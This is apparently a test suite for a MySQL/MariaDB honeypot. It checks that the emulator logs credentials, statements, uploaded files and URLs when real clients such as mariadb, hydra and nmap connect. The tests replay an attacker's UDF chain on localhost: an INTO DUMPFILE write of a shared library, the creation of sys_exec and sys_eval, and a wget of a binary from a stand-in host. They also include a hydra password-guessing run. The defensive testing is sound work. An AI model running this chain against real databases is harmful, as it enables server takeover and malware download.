"""
cases_mysql.py - the MySQL / MariaDB look-alike (issue 9), run by run.py.

Real clients: the mariadb command-line client (libmariadb follows the switch to mysql_clear_password,
so the exact password is logged), hydra's mysql module with a 3x3 list (one login event per attempt,
the third attempt of the source accepted), a raw client that refuses the switch (the scramble is
logged as a hashcat 11200 hash that verifies against the password), and nmap -sV.
"""
import hashlib
import os
import re
import shutil
import socket
import struct
import subprocess

from harness import T, Service, Skip, connect
from cases import check_common, stop_and_read

ALL = []


def case(fn):
    ALL.append((fn.__name__, fn))
    return fn


def need(*tools):
    for t in tools:
        if not shutil.which(t):
            raise Skip("%s is not installed" % t)


def logins(evs):
    return [e for e in evs if e["eventid"] in ("login.success", "login.failed") and e["protocol"] == "mysql"]


def identity(d, key):
    with open(os.path.join(d.data_dir, "identity")) as f:
        for line in f:
            if line.startswith(key + "="):
                return line.split("=", 1)[1].strip()
    raise AssertionError("%s not in the identity file" % key)


@case
def mysql_mariadb_client_session(ctx):
    """mariadb -e: the clear-text password, the statements, a DUMPFILE upload kept by sha256, a UDF."""
    need("mariadb")
    d = ctx.daemon("mysql-client", [Service("my", protocol="mysql", accept_after="1")]).start()
    port = d.svc("my").port
    payload = b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) + b"lib_mysqludf_sys"
    sql = ("select @@version; select version(), user(); show databases; use mysql; show tables; "
           "select 0x%s into dumpfile '/usr/lib/mysql/plugin/udf.so'; "
           "create function sys_exec returns integer soname 'udf.so'; "
           "select sys_exec('wget http://198.51.100.23/bins/x86 -O /tmp/x'); "
           "create function sys_eval returns string soname 'udf.so'; select sys_eval('id')" % payload.hex())
    r = subprocess.run(["mariadb", "-h", "127.0.0.1", "-P", str(port), "-u", "root", "-pS3cr3t!pw", "shop",
                        "-e", sql], capture_output=True, stdin=subprocess.DEVNULL, timeout=T(20))
    assert r.returncode == 0, r.stderr
    out = r.stdout.decode()
    version = identity(d, "mysql_version")
    shown = version[6:] if version.startswith("5.5.5-") else version
    assert shown in out and "information_schema" in out and "root@127.0.0.1" in out, out
    # sys_exec: wget's status on the emulated box (it cannot connect: 4); sys_eval: id's line (mysql)
    assert out.rstrip("\n").split("\n")[-3:] == ["4", "sys_eval('id')",
                                                  "uid=103(mysql) gid=111(mysql) groups=111(mysql)\\n"], out
    d.wait_event(lambda e: e["eventid"] == "command.input" and "sys_eval(" in e.get("input", "")
                 and e["input"].startswith("select"), what="last statement")
    evs = stop_and_read(d)
    lg = logins(evs)
    assert len(lg) == 1, lg
    ok = lg[0]
    check_common(ok)
    assert ok["eventid"] == "login.success" and ok["username"] == "root" and ok["password"] == "S3cr3t!pw", ok
    assert ok["method"] == "mysql_clear_password" and ok["database"] == "shop", ok
    assert ok["client_attrs"]["_client_name"] == "libmariadb" and ok["client_app"], ok
    inputs = [e["input"] for e in evs if e["eventid"] == "command.input" and e["protocol"] == "mysql"]
    for want in ("select @@version", "show databases", "show tables"):
        assert want in inputs, inputs
    up = [e for e in evs if e["eventid"] == "session.file_upload" and e.get("protocol_detail") == "mysql"]
    assert len(up) == 1, up
    assert up[0]["shasum"] == hashlib.sha256(payload).hexdigest() and up[0]["size"] == len(payload), up
    assert up[0]["filename"] == "/usr/lib/mysql/plugin/udf.so", up
    with open(os.path.join(d.data_dir, "payloads", up[0]["shasum"]), "rb") as f:
        assert f.read() == payload
    udf = [e for e in evs if e["eventid"] == "mysql.udf"]
    assert udf and udf[0]["function"] == "sys_exec" and udf[0]["library"] == "udf.so", udf
    urls = [e for e in evs if e.get("url") == "http://198.51.100.23/bins/x86"]
    assert urls and urls[0]["found_in"] == "mysql", [e for e in evs if "url" in e]


DBD_SCRIPT = r"""
use strict; use DBI;
my ($port, $payload_hex) = @ARGV;
my $dbh = DBI->connect("DBI:MariaDB:host=127.0.0.1;port=$port;mariadb_server_prepare=1", "root", "S3cr3t!pw",
                       {RaiseError => 1, PrintError => 0});
my $sth = $dbh->prepare("select ?, ?, \@\@version");
$sth->execute(42, "it's");
print join("|", $sth->fetchrow_array), "\n";
$sth = $dbh->prepare("select ? into dumpfile '/usr/lib/mysql/plugin/p.so'");
$sth->bind_param(1, pack("H*", $payload_hex), DBI::SQL_BLOB);
$sth->execute;
$sth = $dbh->prepare("select ?");
$sth->execute("wget http://198.51.100.24/p.sh");
print join("|", $sth->fetchrow_array), "\n";
$dbh->disconnect;
"""


@case
def mysql_dbd_server_prepare(ctx):
    """DBD::MariaDB with mariadb_server_prepare=1: COM_STMT_PREPARE / EXECUTE answered in the binary
    protocol, each EXECUTE a command.input with its values, INTO DUMPFILE and the URL scan as for COM_QUERY."""
    need("perl")
    if subprocess.run(["perl", "-MDBD::MariaDB", "-e1"], capture_output=True).returncode != 0:
        raise Skip("DBD::MariaDB (libdbd-mariadb-perl) is not installed")
    d = ctx.daemon("mysql-dbd", [Service("my", protocol="mysql", accept_after="1")]).start()
    port = d.svc("my").port
    payload = b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) + b"'\\"
    r = subprocess.run(["perl", "-e", DBD_SCRIPT, str(port), payload.hex()], capture_output=True,
                       stdin=subprocess.DEVNULL, timeout=T(20))
    assert r.returncode == 0, r.stderr
    version = identity(d, "mysql_version")
    shown = version[6:] if version.startswith("5.5.5-") else version
    lines = r.stdout.decode().splitlines()
    assert lines == ["42|it's|" + shown, "wget http://198.51.100.24/p.sh"], lines
    d.wait_event(lambda e: e.get("url") == "http://198.51.100.24/p.sh", what="the URL")
    evs = stop_and_read(d)
    ex = [e["input"] for e in evs if e["eventid"] == "command.input" and e.get("command") == "COM_STMT_EXECUTE"]
    assert ex[0] == "select '42', 'it\\'s', @@version" and len(ex) == 3, ex   # DBD sends perl scalars as strings
    up = [e for e in evs if e["eventid"] == "session.file_upload" and e.get("protocol_detail") == "mysql"]
    assert len(up) == 1 and up[0]["shasum"] == hashlib.sha256(payload).hexdigest(), up
    assert up[0]["filename"] == "/usr/lib/mysql/plugin/p.so", up


@case
def mysql_hydra_3x3(ctx):
    """hydra mysql, 3 users x 3 passwords, one task: nine login events.  No login is accepted here:
    after a success hydra 9.4 reuses its libmariadb handle and fails the next pair on the client side
    ("Can't connect twice"), so that pair never reaches any server (accept_after is unit-tested)."""
    need("hydra")
    d = ctx.daemon("mysql-hydra", [Service("my", protocol="mysql", accept_after="0")]).start()
    port = d.svc("my").port
    users, pws = ["root", "admin", "mysql"], ["123456", "password", "toor"]
    ul, pl = os.path.join(d.tmp, "u.txt"), os.path.join(d.tmp, "p.txt")
    with open(ul, "w") as f:
        f.write("\n".join(users) + "\n")
    with open(pl, "w") as f:
        f.write("\n".join(pws) + "\n")
    r = subprocess.run(["hydra", "-I", "-L", ul, "-P", pl, "-t", "1", "-s", str(port), "127.0.0.1", "mysql"],
                       cwd=d.tmp, capture_output=True, stdin=subprocess.DEVNULL, timeout=T(60))
    out = r.stdout.decode("utf-8", "replace")
    assert "0 valid password" in out, out[-2000:]
    d.wait_event(lambda e: e["eventid"].startswith("login.") and e["protocol"] == "mysql", count=9,
                 what="nine attempts")
    evs = stop_and_read(d)
    lg = logins(evs)
    pairs = sorted((e["username"], e["password"]) for e in lg)
    assert pairs == sorted((u, p) for u in users for p in pws), pairs
    assert all(e["eventid"] == "login.failed" and e["method"] == "mysql_clear_password" for e in lg), lg


def read_packet(s):
    head = b""
    while len(head) < 4:
        chunk = s.recv(4 - len(head))
        assert chunk, "connection closed"
        head += chunk
    n = head[0] | head[1] << 8 | head[2] << 16
    body = b""
    while len(body) < n:
        chunk = s.recv(n - len(body))
        assert chunk
        body += chunk
    return head[3], body


@case
def mysql_refused_switch_logs_hash(ctx):
    """A client that will not send a clear-text password: the native scramble becomes a crackable hash."""
    d = ctx.daemon("mysql-hash", [Service("my", protocol="mysql", accept_after="0")]).start()
    s = connect(d.svc("my").port)
    seq, greet = read_packet(s)
    assert seq == 0 and greet[0] == 10
    ver_end = greet.index(b"\0", 1)
    p = ver_end + 1 + 4
    salt = greet[p:p + 8] + greet[p + 8 + 1 + 2 + 1 + 2 + 2 + 1 + 10:][:12]
    pw = b"letmein"
    h1 = hashlib.sha1(pw).digest()
    h3 = hashlib.sha1(salt + hashlib.sha1(h1).digest()).digest()
    resp = bytes(a ^ b for a, b in zip(h1, h3))
    caps = 0x0200 | 0x8000 | 0x80000
    body = struct.pack("<IIB", caps, 1 << 24, 33) + b"\0" * 23 + b"dbadmin\0" + bytes([20]) + resp
    body += b"mysql_native_password\0"
    s.sendall(struct.pack("<I", len(body))[:3] + b"\x01" + body)
    seq, sw = read_packet(s)
    assert seq == 2 and sw == b"\xfemysql_clear_password\0", sw
    s.close()
    d.wait_event(lambda e: e["eventid"] == "login.failed", what="login event")
    evs = stop_and_read(d)
    lg = logins(evs)
    assert len(lg) == 1 and "password" not in lg[0], lg
    assert lg[0]["hash_format"] == "hashcat:11200", lg[0]
    assert lg[0]["hash"] == "$mysqlna$%s*%s" % (salt.hex(), resp.hex()), lg[0]
    assert lg[0]["username"] == "dbadmin"


@case
def mysql_nmap_version(ctx):
    """nmap -sV names the product and the version: the sensor's identity, and a configured MariaDB."""
    need("nmap")
    maria = "5.5.5-10.11.6-MariaDB-0+deb12u1"
    d = ctx.daemon("mysql-nmap", [Service("my", protocol="mysql"),
                                  Service("maria", protocol="mysql", version=maria)]).start()
    ports = (d.svc("my").port, d.svc("maria").port)
    r = subprocess.run(["nmap", "-Pn", "-n", "-sV", "-p", "%d,%d" % ports, "127.0.0.1"], capture_output=True,
                       stdin=subprocess.DEVNULL, timeout=T(90))
    out = r.stdout.decode()
    for port, version in zip(ports, (identity(d, "mysql_version"), maria)):
        line = [l for l in out.splitlines() if l.startswith("%d/tcp" % port)]
        assert line, out
        assert re.search(r"open\s+mysql\s+MySQL ", line[0]) and version in line[0], line
        ctx.note(line[0])
    assert "honeypot" not in out.lower(), out
    stop_and_read(d)
